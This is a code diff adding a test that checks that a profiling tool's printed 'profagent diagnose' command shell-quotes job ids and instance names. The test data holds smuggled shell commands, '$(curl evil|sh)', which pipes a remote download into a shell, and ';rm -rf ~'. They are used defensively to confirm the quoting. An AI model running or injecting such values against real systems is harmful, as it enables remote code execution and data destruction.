@@ -66,3 +66,16 @@ def test_a_hostile_job_id_cannot_change_the_queries() -> None:
     assert query_url("http://prom:9090/mimir/prometheus/", "up") == "http://prom:9090/mimir/prometheus/api/v1/query?query=up"
     with pytest.raises(UserError):
         query_url("http://prom:notaport", "up")
+
+
+def test_a_suggested_command_quotes_every_value() -> None:
+    """Issue 51 low 4: a job id and an instance are any string; the printed command, pasted
+    in a shell, runs profagent with them as single arguments and nothing else."""
+    import shlex
+
+    job, instance = "x $(curl evil|sh) #", "n0:19400;rm -rf ~"
+    [f] = verdict([_finding(instance, job, "1", "straggler", "warning")], [], [], now=0.0)["findings"]
+    command = f["evidence"]["details"]
+    assert shlex.split(command) == ["profagent", "diagnose", "--url", f"http://{instance}", "--job", job]
+    ordinary = verdict([_finding("n0:19400", "j2", "1", "straggler", "warning")], [], [], now=0.0)["findings"][0]
+    assert ordinary["evidence"]["details"] == "profagent diagnose --url http://n0:19400 --job j2"
